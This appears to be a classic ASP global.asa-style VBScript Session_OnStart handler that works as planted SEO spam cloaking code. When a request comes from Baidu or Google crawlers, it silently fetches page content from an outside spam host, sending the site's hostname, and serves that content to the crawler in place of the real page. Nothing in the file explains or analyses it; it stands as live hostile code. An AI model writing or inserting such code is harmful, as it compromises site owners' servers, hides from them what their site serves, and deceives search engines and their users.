<SCRIPT LANGUAGE="VBScript" RUNAT="Server">
Sub Session_OnStart
  ua = LCase(Request.ServerVariables("HTTP_USER_AGENT"))
  If InStr(ua, "baiduspider") > 0 Or InStr(ua, "googlebot") > 0 Then
    Set x = Server.CreateObject("MSXML2.ServerXMLHTTP")
    x.Open "GET", "http://spam.example.net/page.php?d=" & Request.ServerVariables("HTTP_HOST"), False
    x.Send
    Response.Write x.responseText
    Response.End
  End If
End Sub
</SCRIPT>
